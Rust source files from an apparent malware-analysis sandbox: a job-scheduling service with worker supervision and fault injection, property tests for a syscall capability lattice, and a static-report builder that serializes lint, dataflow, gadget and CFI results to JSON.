    pub fn trace_tail(&self, n: usize) -> (Vec<TraceEvent>, u64) {
        let rec = self.inner.recorder.lock().expect("recorder poisoned");
        (rec.tail(n), rec.dropped())
    }

    /// Graceful shutdown: refuse new jobs, let the workers drain the
    /// backlog, join the pool, and return the final stats. Idempotent —
    /// callers holding the service in an `Arc` (the socket server) may
    /// race here safely.
    pub fn shutdown(&self) -> ServiceStats {
        self.shutdown_inner(false)
    }

    /// Fast shutdown: refuse new jobs, cancel everything still queued,
    /// finish only in-flight jobs, join the pool.
    pub fn shutdown_now(&self) -> ServiceStats {
        self.shutdown_inner(true)
    }

    fn shutdown_inner(&self, cancel_queued: bool) -> ServiceStats {
        if cancel_queued {
            // Mark still-queued jobs cancelled *before* closing: workers
            // popping them observe the terminal state and skip. This keeps
            // the cancel set exact (no race with the drain).
            let mut table = self.inner.jobs.lock().expect("jobs poisoned");
            for entry in table.entries.iter_mut() {
                if matches!(entry.status, JobStatus::Queued) {
                    entry.status = JobStatus::Failed(JobFailure::new(
                        FailureKind::Cancelled,
                        "service shut down before the job ran",
                    ));
                    self.inner.cancelled.fetch_add(1, Ordering::Relaxed);
                    self.inner.failed.fetch_add(1, Ordering::Relaxed);
                }
            }
            self.inner.jobs_cv.notify_all();
        }
        self.inner.queue.close();
        // Join workers until the table stays empty (panic replacements may
        // appear while joining; after close they exit immediately).
        loop {
            let handles: Vec<JoinHandle<()>> = {
                let mut workers = self.inner.workers.lock().expect("workers poisoned");
                workers.drain().map(|(_, h)| h).collect()
            };
            if handles.is_empty() {
                break;
            }
            for handle in handles {
                let _ = handle.join();
            }
        }
        self.inner.stop_supervisor.store(true, Ordering::SeqCst);
        let supervisor = self.supervisor.lock().expect("supervisor poisoned").take();
        if let Some(handle) = supervisor {
            let _ = handle.join();
        }
        self.inner.stats()
    }
}

impl JobEntry {
    fn view(entry: &JobEntry, id: u64) -> JobView {
        JobView { id, label: entry.label.clone(), status: entry.status.clone() }
    }
}

impl Inner {
    fn admit(&self, spec: JobSpec, block: bool) -> Result<u64, SubmitError> {
        loop {
            {
                // Id reservation and push happen under the jobs lock so the
                // entry exists before any worker can claim the popped id.
                // Only the *non-blocking* push runs under the lock — a
                // blocking push here would deadlock against workers that
                // need the lock to drain the queue.
                let mut table = self.jobs.lock().expect("jobs poisoned");
                let id = table.entries.len() as u64;
                match self.queue.try_push(id) {
                    Ok(()) => {
                        table.entries.push(JobEntry {
                            label: spec.label(),
                            spec,
                            status: JobStatus::Queued,
                            claim: None,
                            submitted: Instant::now(),
                        });
                        drop(table);
                        self.submitted.fetch_add(1, Ordering::Relaxed);
                        self.observe_queue_depth();
                        return Ok(id);
                    }
                    Err(PushError::Closed) => return Err(SubmitError::ShuttingDown),
                    Err(PushError::Full) if !block => {
                        drop(table);
                        self.rejected.fetch_add(1, Ordering::Relaxed);
                        self.trace_instant("submit-rejected");
                        return Err(SubmitError::QueueFull);
                    }
                    Err(PushError::Full) => {}
                }
            }
            if !self.queue.wait_space() {
                return Err(SubmitError::ShuttingDown);
            }
        }
    }

    fn observe_queue_depth(&self) {
        let depth = self.queue.len() as u64;
        let mut m = self.metrics.lock().expect("metrics poisoned");
        let gauges = m.queue;
        gauges.observe_depth(&mut m.registry, depth);
    }

    fn record_utilization(&self, busy: Duration) {
        let mut m = self.metrics.lock().expect("metrics poisoned");
        let workers = m.workers;
        workers.record_job(&mut m.registry, busy);
    }

    fn is_retired(&self, worker: u64) -> bool {
        self.retired.lock().expect("retired poisoned").contains(&worker)
    }

    fn spawn_worker(inner: &Arc<Inner>) -> u64 {
        let worker_id = inner.next_worker.fetch_add(1, Ordering::SeqCst);
        inner.live_workers.fetch_add(1, Ordering::SeqCst);
        inner.workers_spawned.fetch_add(1, Ordering::Relaxed);
        let for_thread = Arc::clone(inner);
        let handle = thread::spawn(move || worker_loop(&for_thread, worker_id));
        inner.workers.lock().expect("workers poisoned").insert(worker_id, handle);
        worker_id
    }

    /// Claims the next execution attempt on `id`. Returns `None` when the
    /// job is already terminal (e.g. cancelled while queued). The third
    /// element is how long the job sat queued — its `queue_wait` phase.
    fn claim(&self, id: u64, worker: u64) -> Option<(u64, JobSpec, Duration)> {
        let mut table = self.jobs.lock().expect("jobs poisoned");
        let entry = table.entries.get_mut(id as usize)?;
        if entry.status.is_terminal() {
            return None;
        }
        let token = self.next_token.fetch_add(1, Ordering::SeqCst);
        entry.status = JobStatus::Running;
        entry.claim = Some(token);
        let spec = entry.spec.clone();
        let queue_wait = entry.submitted.elapsed();
        table.running.insert(id, RunningJob { token, worker, started: Instant::now() });
        Some((token, spec, queue_wait))
    }

    /// Publishes a terminal status for the attempt holding `token`.
    /// Returns `false` (dropping the result) when the claim is stale —
    /// the supervisor already failed the job and moved on.
    fn publish(&self, id: u64, token: u64, status: JobStatus) -> bool {
        let mut table = self.jobs.lock().expect("jobs poisoned");
        match table.running.get(&id) {
            Some(run) if run.token == token => {}
            _ => return false,
        }
        table.running.remove(&id);
        let entry = &mut table.entries[id as usize];
        entry.claim = None;
        match &status {
            JobStatus::Done(_) => {
                self.completed.fetch_add(1, Ordering::Relaxed);
            }
            JobStatus::Failed(_) => {
                self.failed.fetch_add(1, Ordering::Relaxed);
            }
            JobStatus::Queued | JobStatus::Running => unreachable!("publish is terminal-only"),
        }
        entry.status = status;
        self.jobs_cv.notify_all();
        true
    }

    /// Validates and publishes a successful result; a result whose report
    /// fails validation is converted into a `corrupt-report` failure (this
    /// is the server-side check [`Fault::CorruptReport`] exercises).
    fn publish_result(&self, id: u64, token: u64, result: JobResult) -> bool {
        if let Err(err) = JsonValue::parse(&result.report_json) {
            return self.publish(
                id,
                token,
                JobStatus::Failed(JobFailure::new(
                    FailureKind::CorruptReport,
                    format!("report failed validation: {err}"),
                )),
            );
        }
        self.trace_events.fetch_add(result.trace_events, Ordering::Relaxed);
        self.trace_dropped.fetch_add(result.trace_dropped, Ordering::Relaxed);
        self.merged.lock().expect("merged poisoned").merge(&result.metrics);
        self.cost.lock().expect("cost poisoned").merge(&result.cost);
        self.publish(id, token, JobStatus::Done(result))
    }

    fn trace_span(&self, worker: u64, label: &str, begin: bool) {
        let ts = self.epoch.elapsed().as_micros() as u64;
        let mut rec = self.recorder.lock().expect("recorder poisoned");
        let ev = if begin {
            TraceEvent::begin(ts, 1, worker as u32, TraceCategory::Service, label)
        } else {
            TraceEvent::end(ts, 1, worker as u32, TraceCategory::Service, label)
        };
        rec.record(ev);
    }

    fn trace_instant(&self, label: &str) {
        let ts = self.epoch.elapsed().as_micros() as u64;
        let mut rec = self.recorder.lock().expect("recorder poisoned");
        rec.record(TraceEvent::instant(ts, 1, 0, TraceCategory::Service, label));
    }

    /// Retires a worker (stalled past the deadline, or exiting after a
    /// caught job panic) and spawns a replacement. Idempotent per worker:
    /// the supervisor and the worker's own panic path can race here, and
    /// exactly one of them wins — so the live count drops exactly once and
    /// exactly one replacement joins the pool.
    fn retire_and_replace(inner: &Arc<Inner>, worker: u64) {
        {
            let mut retired = inner.retired.lock().expect("retired poisoned");
            if retired.contains(&worker) {
                return;
            }
            retired.push(worker);
        }
        // Detach the handle: a stalled thread is not joinable on any
        // useful timescale (its claim token is already dead), and a
        // panicking one is about to exit anyway.
        inner.workers.lock().expect("workers poisoned").remove(&worker);
        inner.live_workers.fetch_sub(1, Ordering::SeqCst);
        inner.workers_replaced.fetch_add(1, Ordering::Relaxed);
        if !inner.queue.is_closed() {
            Inner::spawn_worker(inner);
        }
    }

    fn stats(&self) -> ServiceStats {
        let (depth, high_water, jobs_executed, busy_ns) = {
            let m = self.metrics.lock().expect("metrics poisoned");
            let (depth, high) = m.queue.read(&m.registry);
            let (jobs, busy) = m.workers.read(&m.registry);
            (depth, high, jobs, busy)
        };
        // The gauge lags the queue between observe points; report the live
        // depth and keep the gauge's high-water.
        let _ = depth;
        ServiceStats {
            submitted: self.submitted.load(Ordering::Relaxed),
            rejected: self.rejected.load(Ordering::Relaxed),
            completed: self.completed.load(Ordering::Relaxed),
            failed: self.failed.load(Ordering::Relaxed),
            cancelled: self.cancelled.load(Ordering::Relaxed),
            queue_depth: self.queue.len() as u64,
            queue_high_water: high_water.max(self.queue.high_water() as u64),
            live_workers: self.live_workers.load(Ordering::SeqCst),
            workers_spawned: self.workers_spawned.load(Ordering::Relaxed),
            workers_replaced: self.workers_replaced.load(Ordering::Relaxed),
            jobs_executed,
            busy_ns,
            trace_events: self.trace_events.load(Ordering::Relaxed),
            trace_dropped: self.trace_dropped.load(Ordering::Relaxed),
            deadline_kills: self.deadline_kills.load(Ordering::Relaxed),
            merged: self.merged.lock().expect("merged poisoned").clone(),
            cost: self.cost.lock().expect("cost poisoned").clone(),
        }
    }
}

fn worker_loop(inner: &Arc<Inner>, worker_id: u64) {
    loop {
        if inner.is_retired(worker_id) {
            break;
        }
        let Some(job_id) = inner.queue.pop() else { break };
        inner.observe_queue_depth();
        let Some((token, spec, queue_wait)) = inner.claim(job_id, worker_id) else { continue };
        let label = format!("job-{job_id}");
        inner.trace_span(worker_id, &label, true);
        let started = Instant::now();
        let outcome = panic::catch_unwind(AssertUnwindSafe(|| {
            execute_job(inner, job_id, &spec, queue_wait)
        }));
        let busy = started.elapsed();
        inner.record_utilization(busy);
        inner.trace_span(worker_id, &label, false);
        match outcome {
            Ok(Ok(result)) => {
                inner.publish_result(job_id, token, result);
            }
            Ok(Err(failure)) => {
                inner.publish(job_id, token, JobStatus::Failed(failure));
            }
            Err(payload) => {
                let msg = fault::payload_message(payload.as_ref());
                inner.publish(
                    job_id,
                    token,
                    JobStatus::Failed(JobFailure::new(FailureKind::WorkerPanic, msg)),
                );
                Inner::retire_and_replace(inner, worker_id);
                return;
            }
        }
    }
    if !inner.is_retired(worker_id) {
        // Retired workers were already counted out by the supervisor.
        inner.live_workers.fetch_sub(1, Ordering::SeqCst);
    }
}

/// Resolves and analyzes one job, applying any scheduled fault. The
/// pipeline's phase/plugin cost channel is extended with the service-side
/// phases (`queue_wait`, `report`) and shipped as the result's `cost`.
fn execute_job(
    inner: &Inner,
    id: u64,
    spec: &JobSpec,
    queue_wait: Duration,
) -> Result<JobResult, JobFailure> {
    let fault = inner.faults.get(id);
    let (sample, recording) = resolve(inner, spec)?;
    match fault {
        Some(Fault::Stall(pause)) => thread::sleep(pause),
        Some(Fault::PanicMidReplay(after)) => {
            // A genuinely doomed replay pass: the panic unwinds out of the
            // instruction hook, exactly like a real analysis bug.
            let mut doomed = PluginManager::new();
            doomed.register(Box::new(PanicAt::new(after)));
            let _ = replay(
                &sample.scenario,
                &recording,
                inner.config.analysis.budget,
                &mut doomed,
            );
        }
        Some(Fault::CorruptReport) | None => {}
    }
    let job = faros::analyze_recording(&sample.scenario, &recording, &inner.config.analysis)
        .map_err(|e| JobFailure::new(FailureKind::Replay, e.to_string()))?;
    let report_started = Instant::now();
    let mut report_json = job
        .report
        .to_json()
        .map_err(|e| JobFailure::new(FailureKind::CorruptReport, e.to_string()))?;
    if fault == Some(Fault::CorruptReport) {
        report_json.truncate(report_json.len() / 2);
    }
    let mut cost = job.cost.clone();
    cost.phases.add_ns("queue_wait", queue_wait.as_nanos() as u64);
    cost.phases.add_ns("report", report_started.elapsed().as_nanos() as u64);
    let (trace_events, trace_dropped) =
        job.trace.as_ref().map_or((0, 0), |t| (t.events, t.dropped));
    Ok(JobResult {
        metrics: job.report.metrics.clone(),
        report_json,
        instructions: job.instructions,
        flagged: job.report.attack_flagged(),
        trace_events,
        trace_dropped,
        cost: cost.metrics(),
    })
}

fn resolve(
    inner: &Inner,
    spec: &JobSpec,
) -> Result<(faros_corpus::Sample, Recording), JobFailure> {
    match spec {
        JobSpec::Scenario { name } => {
            let sample = faros_corpus::find_sample(name).ok_or_else(|| {
                JobFailure::new(FailureKind::InvalidSpec, format!("unknown scenario `{name}`"))
            })?;
            let (recording, _outcome) = record(&sample.scenario, inner.config.analysis.budget)
                .map_err(|e| JobFailure::new(FailureKind::Replay, e.to_string()))?;
            Ok((sample, recording))
        }
        JobSpec::Recording { json } => {
            let recording = Recording::from_json(json).map_err(|e| {
                JobFailure::new(FailureKind::InvalidSpec, format!("unparseable recording: {e}"))
            })?;
            let sample = faros_corpus::find_sample(&recording.scenario).ok_or_else(|| {
                JobFailure::new(
                    FailureKind::InvalidSpec,
                    format!("recording names unknown scenario `{}`", recording.scenario),
                )
            })?;
            Ok((sample, recording))
        }
    }
}

fn supervisor_loop(inner: &Arc<Inner>, deadline: Duration) {
    let tick = (deadline / 4).min(Duration::from_millis(20)).max(Duration::from_millis(1));
    while !inner.stop_supervisor.load(Ordering::SeqCst) {
        thread::sleep(tick);
        let expired: Vec<(u64, u64)> = {
            let table = inner.jobs.lock().expect("jobs poisoned");
            table
                .running
                .iter()
                .filter(|(_, run)| run.started.elapsed() > deadline)
                .map(|(&job, run)| (job, run.worker))
                .collect()
        };
        for (job_id, worker) in expired {
            let failed = inner.publish(
                job_id,
                inner_token_of(inner, job_id).unwrap_or(u64::MAX),
                JobStatus::Failed(JobFailure::new(
                    FailureKind::DeadlineExceeded,
                    format!("exceeded the per-job deadline of {deadline:?}"),
                )),
            );
            if failed {
                inner.deadline_kills.fetch_add(1, Ordering::Relaxed);
                inner.trace_instant("deadline-exceeded");
                Inner::retire_and_replace(inner, worker);
            }
        }
    }
}

/// The claim token currently attached to `job_id`, if it is running.
fn inner_token_of(inner: &Inner, job_id: u64) -> Option<u64> {
    let table = inner.jobs.lock().expect("jobs poisoned");
    table.running.get(&job_id).map(|run| run.token)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stats_round_trip_json() {
        let stats = ServiceStats {
            submitted: 10,
            completed: 8,
            failed: 2,
            queue_high_water: 5,
            live_workers: 4,
            workers_spawned: 5,
            workers_replaced: 1,
            jobs_executed: 10,
            ..ServiceStats::default()
        };
        let json = stats.to_json_value().to_pretty();
        let back =
            ServiceStats::from_json_value(&JsonValue::parse(&json).unwrap()).unwrap();
        assert_eq!(back, stats);
    }

    #[test]
    fn backpressure_rejects_when_full() {
        // Zero live workers isn't possible (min 1), so fill the queue with
        // jobs behind a stalling fault to hold capacity.
        let faults = Arc::new(FaultPlan::new());
        faults.set(0, Fault::Stall(Duration::from_millis(300)));
        let svc = Detonator::start_with_faults(
            ServiceConfig { workers: 1, queue_capacity: 2, ..ServiceConfig::default() },
            faults,
        );
        // Job 0 stalls the lone worker. Wait until the worker has actually
        // picked it up, so the queue is empty before jobs 1..=2 fill it.
        svc.submit(JobSpec::Scenario { name: "process_hollowing".into() }).unwrap();
        while !matches!(svc.status(0).unwrap().status, JobStatus::Running) {
            thread::sleep(Duration::from_millis(2));
        }
        for _ in 0..2 {
            svc.submit(JobSpec::Scenario { name: "process_hollowing".into() }).unwrap();
        }
        let err = svc
            .submit(JobSpec::Scenario { name: "process_hollowing".into() })
            .expect_err("fourth submission must hit backpressure");
        assert_eq!(err, SubmitError::QueueFull);
        let stats = svc.shutdown();
        assert_eq!(stats.rejected, 1);
        assert_eq!(stats.submitted, 3);
    }
}
