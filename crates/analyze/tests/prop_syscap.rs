//! Lattice-law property tests for the capability analysis
//! (`analyze::syscap`), driven by the deterministic `faros-support`
//! property harness.
//!
//! The capability machinery rests on three lattices, each with laws the
//! cross-check silently relies on:
//!
//! * `CapSet` — the powerset lattice of the 13 capabilities; `union`
//!   must be a real join (commutative, associative, idempotent, `EMPTY`
//!   identity) with `contains_all` as the induced order;
//! * `AVal` — the VSA value domain syscall sites are lifted from; its
//!   join must be a sound upper bound and the widening rule must cut
//!   every ascending chain after a bounded number of changes;
//! * the interprocedural summaries — `summarize` must compute exactly
//!   the reachable-local union (a least fixpoint) and be monotone:
//!   growing a local capability set never shrinks any summary.
//!
//! On top of the lattices, the abstract lifting `caps_of_syscall` must
//! agree with the replay-side `concrete_capability` on singletons and be
//! monotone in its arguments (coarsening an argument never removes a
//! capability) — the two facts that make "exercised but statically
//! impossible" a sound alert.

use faros_analyze::syscap::{caps_of_syscall, summarize};
use faros_analyze::vsa::{AVal, StridedInterval};
use faros_kernel::nt::Sysno;
use faros_replay::syscap::{concrete_capability, CapSet, Capability};
use faros_support::prop::{check, Config, Rng};
use faros_support::{prop_assert, prop_assert_eq};
use std::collections::{BTreeMap, BTreeSet};

/// Decodes a `u16` bitmask into a capability set (bit i = `ALL[i]`).
fn capset(mask: u16) -> CapSet {
    Capability::ALL
        .into_iter()
        .enumerate()
        .filter(|(i, _)| mask & (1 << i) != 0)
        .map(|(_, c)| c)
        .collect()
}

/// Decodes an encoded tuple into an `AVal`. Strided intervals are kept
/// small enough that `enumerate()` always succeeds, so the soundness
/// checks below can test exact membership.
fn aval((tag, lo, span, stride): (u8, u32, u32, u32)) -> AVal {
    match tag % 4 {
        0 => AVal::Bot,
        1 => {
            let lo = lo % 0x1_0000;
            AVal::Si(StridedInterval::new((stride % 8).max(1), lo, lo + span % 48))
        }
        2 => AVal::Sp((lo % 128) as i32 - 64),
        _ => AVal::Top,
    }
}

fn arb_aval_code(rng: &mut Rng) -> (u8, u32, u32, u32) {
    (rng.next_u8(), rng.next_u32(), rng.next_u32(), rng.next_u32())
}

/// `true` when every concrete value of `small` is covered by `big`
/// (the abstract order `small ⊑ big`), checked by exact enumeration.
fn covers(big: &AVal, small: &AVal) -> bool {
    match (big, small) {
        (_, AVal::Bot) => true,
        (AVal::Top, _) => true,
        (AVal::Sp(a), AVal::Sp(b)) => a == b,
        (AVal::Si(b), AVal::Si(s)) => {
            s.enumerate().expect("generated intervals enumerate").iter().all(|&v| b.contains(v))
        }
        _ => false,
    }
}

#[test]
fn capset_union_is_a_join() {
    check(
        "capset union laws",
        Config::default(),
        |rng: &mut Rng| (rng.next_u32() as u16, rng.next_u32() as u16, rng.next_u32() as u16),
        |&(ma, mb, mc)| {
            let (a, b, c) = (capset(ma), capset(mb), capset(mc));
            prop_assert_eq!(a.union(b), b.union(a), "union must commute");
            prop_assert_eq!(a.union(b).union(c), a.union(b.union(c)), "union must associate");
            prop_assert_eq!(a.union(a), a, "union must be idempotent");
            prop_assert_eq!(a.union(CapSet::EMPTY), a, "EMPTY must be the identity");
            // `contains_all` is the induced order: both operands sit
            // below the join, and the join adds nothing else.
            prop_assert!(a.union(b).contains_all(a));
            prop_assert!(a.union(b).contains_all(b));
            for cap in a.union(b).iter() {
                prop_assert!(a.contains(cap) || b.contains(cap), "join invented {cap}");
            }
            // difference is relative complement w.r.t. union.
            prop_assert_eq!(a.difference(b).union(b), a.union(b));
            prop_assert!(a.difference(b).len() + b.len() == a.union(b).len());
            Ok(())
        },
    );
}

#[test]
fn aval_join_is_a_sound_upper_bound() {
    check(
        "aval join laws",
        Config::default(),
        |rng: &mut Rng| (arb_aval_code(rng), arb_aval_code(rng), arb_aval_code(rng)),
        |&(ca, cb, cc)| {
            let (a, b, c) = (aval(ca), aval(cb), aval(cc));
            prop_assert_eq!(a.join(&b), b.join(&a), "join must commute");
            prop_assert_eq!(a.join(&a), a, "join must be idempotent");
            prop_assert_eq!(a.join(&AVal::Bot), a, "Bot must be the identity");
            prop_assert_eq!(a.join(&AVal::Top), AVal::Top, "Top must absorb");
            prop_assert_eq!(
                a.join(&b).join(&c),
                a.join(&b.join(&c)),
                "join must associate"
            );
            let j = a.join(&b);
            prop_assert!(covers(&j, &a), "join lost values of the left operand");
            prop_assert!(covers(&j, &b), "join lost values of the right operand");
            Ok(())
        },
    );
}

#[test]
fn widening_cuts_every_ascending_chain() {
    check(
        "widening termination",
        Config::default(),
        |rng: &mut Rng| rng.vec_of(0, 40, arb_aval_code),
        |codes| {
            // The engine's widening rule (`State::join_from` with
            // `widen` set): a join that changes the accumulator and
            // lands on a strided interval goes straight to Top. Under
            // it, any chain stabilizes after at most 2 changes per
            // value (Bot -> Si/Sp -> Top); without it, folding a
            // finite set still ends on an upper bound of every element.
            let mut widened = AVal::Bot;
            let mut changes = 0u32;
            for &code in codes {
                let j = widened.join(&aval(code));
                if j != widened {
                    changes += 1;
                    widened = if matches!(j, AVal::Si(_)) && changes > 1 { AVal::Top } else { j };
                }
            }
            prop_assert!(changes <= 3, "widened chain changed {changes} times");
            let folded = codes.iter().fold(AVal::Bot, |acc, &c| acc.join(&aval(c)));
            for &code in codes {
                prop_assert!(covers(&folded, &aval(code)), "fold lost {:?}", aval(code));
            }
            Ok(())
        },
    );
}

/// Decodes a raw `u32` into a concrete syscall argument, biased toward
/// the values `concrete_capability` branches on (the pseudo-handles and
/// small permission masks).
fn concrete_arg(raw: u32) -> u32 {
    match raw % 4 {
        0 => 0xffff_ffff, // CURRENT_PROCESS
        1 => 0xffff_fffe, // CURRENT_THREAD
        2 => raw % 8,     // permission-mask territory
        _ => raw,
    }
}

#[test]
fn singleton_lifting_agrees_with_the_concrete_twin() {
    check(
        "abstract/concrete agreement",
        Config::default(),
        |rng: &mut Rng| {
            (
                rng.next_u8(),
                rng.next_u32(),
                rng.next_u32(),
                rng.next_u32(),
                rng.next_u32(),
                rng.next_u32(),
            )
        },
        |&(idx, r0, r1, r2, r3, r4)| {
            let sysno = Sysno::ALL[idx as usize % Sysno::ALL.len()];
            let args = [
                concrete_arg(r0),
                concrete_arg(r1),
                concrete_arg(r2),
                concrete_arg(r3),
                concrete_arg(r4),
            ];
            let lifted = args.map(AVal::constant);
            let abstract_caps = caps_of_syscall(sysno as u32, &lifted);
            let concrete = concrete_capability(sysno, &args).map(CapSet::of).unwrap_or(CapSet::EMPTY);
            prop_assert_eq!(
                abstract_caps,
                concrete,
                "lifting {sysno:?} with constant args {args:x?} diverged from the replay twin"
            );
            Ok(())
        },
    );
}

#[test]
fn lifting_is_monotone_in_its_arguments() {
    check(
        "lifting monotonicity",
        Config::default(),
        |rng: &mut Rng| {
            (
                rng.next_u8(),
                rng.next_u8(), // per-arg coarsening selector bits
                rng.next_u32(),
                rng.next_u32(),
                rng.next_u32(),
                rng.next_u32(),
            )
        },
        |&(idx, coarsen, r0, r1, r2, r3)| {
            let sysno = Sysno::ALL[idx as usize % Sysno::ALL.len()] as u32;
            let args = [concrete_arg(r0), concrete_arg(r1), concrete_arg(r2), concrete_arg(r3), 0];
            let precise = args.map(AVal::constant);
            // Coarsen a selected subset of the arguments: to Top, or to
            // an interval still containing the constant.
            let mut coarse = precise;
            for (i, slot) in coarse.iter_mut().enumerate() {
                match (coarsen >> (2 * (i % 4))) & 0b11 {
                    0b01 => *slot = AVal::Top,
                    0b10 => {
                        let c = args[i];
                        *slot = AVal::Si(StridedInterval::new(1, c.saturating_sub(3), c.saturating_add(3)));
                    }
                    _ => {}
                }
            }
            let tight = caps_of_syscall(sysno, &precise);
            let wide = caps_of_syscall(sysno, &coarse);
            prop_assert!(
                wide.contains_all(tight),
                "coarsening the arguments dropped capabilities: {} -> {}",
                tight.render(),
                wide.render()
            );
            let top = caps_of_syscall(sysno, &[AVal::Top; 5]);
            prop_assert!(top.contains_all(wide), "all-Top must be the per-sysno maximum");
            Ok(())
        },
    );
}

#[test]
fn summaries_are_the_monotone_reachable_union() {
    check(
        "summary fixpoint + monotonicity",
        Config::with_cases(128),
        |rng: &mut Rng| {
            let n = rng.range_usize(1, 8);
            let edges = rng.vec_of(0, 16, |r| {
                (r.range_usize(0, n) as u8, r.range_usize(0, n) as u8)
            });
            let locals = (0..n).map(|_| rng.next_u32() as u16).collect::<Vec<u16>>();
            let grow = (rng.range_usize(0, n) as u8, rng.next_u32() as u16);
            (n as u8, edges, locals, grow)
        },
        |(n, edges, locals, grow)| {
            let n = u32::from(*n);
            let mut graph: BTreeMap<u32, BTreeSet<u32>> = (0..n).map(|f| (f, BTreeSet::new())).collect();
            for &(a, b) in edges {
                graph.get_mut(&u32::from(a)).unwrap().insert(u32::from(b));
            }
            let local: BTreeMap<u32, CapSet> =
                locals.iter().enumerate().map(|(f, &m)| (f as u32, capset(m))).collect();
            let summary = summarize(&local, &graph);

            for f in 0..n {
                // Fixpoint: a summary absorbs the local set and every
                // callee's summary.
                prop_assert!(summary[&f].contains_all(local[&f]));
                for g in &graph[&f] {
                    prop_assert!(summary[&f].contains_all(summary[g]));
                }
                // Leastness: the summary is exactly the union of the
                // local sets of the functions reachable from `f`.
                let mut seen = BTreeSet::from([f]);
                let mut work = vec![f];
                let mut expect = CapSet::EMPTY;
                while let Some(g) = work.pop() {
                    expect = expect.union(local[&g]);
                    for &h in &graph[&g] {
                        if seen.insert(h) {
                            work.push(h);
                        }
                    }
                }
                prop_assert_eq!(summary[&f], expect, "summary is not the reachable union");
            }

            // Monotonicity: growing one local set never shrinks any
            // summary.
            let (gf, gm) = *grow;
            let mut grown = local.clone();
            let slot = grown.get_mut(&u32::from(gf)).unwrap();
            *slot = slot.union(capset(gm));
            let regrown = summarize(&grown, &graph);
            for f in 0..n {
                prop_assert!(
                    regrown[&f].contains_all(summary[&f]),
                    "growing a local set shrank the summary of {f}"
                );
            }
            Ok(())
        },
    );
}
