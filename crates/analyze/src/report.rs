//! The analyst-facing static report for one FDL image.
//!
//! [`StaticReport::build`] is the one-call entry the `faros-cli analyze
//! <image>` subcommand uses: CFG recovery, the dataflow engine
//! (value-set analysis, indirect-branch resolution, taint summaries) and
//! the lint catalogue over a single image, bundled into one stable JSON
//! wire format. The rendering is byte-deterministic — findings and flows
//! are totally ordered, and [`StaticReport::to_json`] always produces the
//! same bytes for the same image (the golden-fixture test relies on it).

use crate::cfi::CfiModel;
use crate::dataflow::{self, DataflowStats, ImageFlowMap};
use crate::gadgets::{self, GadgetReport};
use crate::lint::{lint_with_cfg, Finding, FindingKind, Severity};
use crate::syscap::{self, CapabilityReport};
use faros_kernel::module::FdlImage;
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};

impl ToJson for Severity {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::Str(self.to_string())
    }
}

impl FromJson for Severity {
    fn from_json_value(v: &JsonValue) -> Result<Severity, JsonError> {
        match v.as_str() {
            Some("error") => Ok(Severity::Error),
            Some("advisory") => Ok(Severity::Advisory),
            _ => Err(JsonError::decode("unknown Severity")),
        }
    }
}

impl ToJson for FindingKind {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::Str(self.to_string())
    }
}

impl FromJson for FindingKind {
    fn from_json_value(v: &JsonValue) -> Result<FindingKind, JsonError> {
        match v.as_str() {
            Some("w^x-section") => Ok(FindingKind::WxSection),
            Some("write-to-code") => Ok(FindingKind::WriteToCode),
            Some("unresolved-indirect") => Ok(FindingKind::UnresolvedIndirect),
            Some("unreachable-block") => Ok(FindingKind::UnreachableBlock),
            Some("export-outside-code") => Ok(FindingKind::ExportOutsideCode),
            Some("export-hash-collision") => Ok(FindingKind::ExportHashCollision),
            Some("syscall-number-unresolved") => Ok(FindingKind::SyscallNumberUnresolved),
            _ => Err(JsonError::decode("unknown FindingKind")),
        }
    }
}

impl ToJson for Finding {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("module", self.module.to_json_value()),
            ("kind", self.kind.to_json_value()),
            ("severity", self.severity.to_json_value()),
            ("va", self.va.to_json_value()),
            ("detail", self.detail.to_json_value()),
        ])
    }
}

impl FromJson for Finding {
    fn from_json_value(v: &JsonValue) -> Result<Finding, JsonError> {
        Ok(Finding {
            module: json::field(v, "module")?,
            kind: json::field(v, "kind")?,
            severity: json::field(v, "severity")?,
            va: json::field(v, "va")?,
            detail: json::field(v, "detail")?,
        })
    }
}

/// The full static verdict for one image.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StaticReport {
    /// Module name the report is about.
    pub module: String,
    /// Lint findings (after dataflow discharge), totally ordered.
    pub findings: Vec<Finding>,
    /// Indirect sites the dataflow engine resolved: `(site VA, sorted
    /// target set)`.
    pub resolved_sites: Vec<(u32, Vec<u32>)>,
    /// The inter-procedural source→sink flow map.
    pub flows: ImageFlowMap,
    /// Dataflow cost/outcome counters.
    pub stats: DataflowStats,
    /// The gadget-surface scan: free-branch endpoints and short gadget
    /// bodies per executable section, with density scoring.
    pub gadgets: GadgetReport,
    /// The static CFI model (resolved target sets, call-preceded return
    /// sites, function entries) the dynamic cross-check enforces.
    pub cfi: CfiModel,
    /// What the image can do through the syscall ABI: its capability set
    /// with witness chains, and statically present injection recipes.
    pub capabilities: CapabilityReport,
}

impl StaticReport {
    /// Runs the whole static pipeline over one image.
    pub fn build(name: &str, image: &FdlImage) -> StaticReport {
        let analysis = dataflow::analyze_image(name, image);
        let mut findings = lint_with_cfg(name, image, &analysis.cfg);
        findings.extend(syscap::unresolved_syscall_findings(name, &analysis));
        findings.sort_by(|a, b| {
            (a.severity, a.kind, a.va, &a.module, &a.detail)
                .cmp(&(b.severity, b.kind, b.va, &b.module, &b.detail))
        });
        findings.dedup();
        let capabilities = syscap::capability_report(&analysis);
        let resolved_sites = analysis
            .cfg
            .resolved_targets
            .iter()
            .map(|(&va, targets)| (va, targets.clone()))
            .collect();
        let gadgets = gadgets::scan_image(name, image, &analysis.cfg);
        let cfi = CfiModel::from_cfg(name, image, &analysis.cfg);
        StaticReport {
            module: name.to_string(),
            findings,
            resolved_sites,
            flows: analysis.flows,
            stats: analysis.stats,
            gadgets,
            cfi,
            capabilities,
        }
    }

    /// Error-severity findings.
    pub fn errors(&self) -> impl Iterator<Item = &Finding> {
        self.findings.iter().filter(|f| f.severity == Severity::Error)
    }

    /// Serializes to pretty-printed, byte-stable JSON.
    ///
    /// # Errors
    ///
    /// Infallible in practice; the `Result` is kept for API stability.
    pub fn to_json(&self) -> Result<String, JsonError> {
        Ok(self.to_json_value().to_pretty())
    }

    /// Deserializes a report from JSON.
    ///
    /// # Errors
    ///
    /// Returns a parse error for malformed input.
    pub fn from_json(text: &str) -> Result<StaticReport, JsonError> {
        StaticReport::from_json_value(&JsonValue::parse(text)?)
    }
}

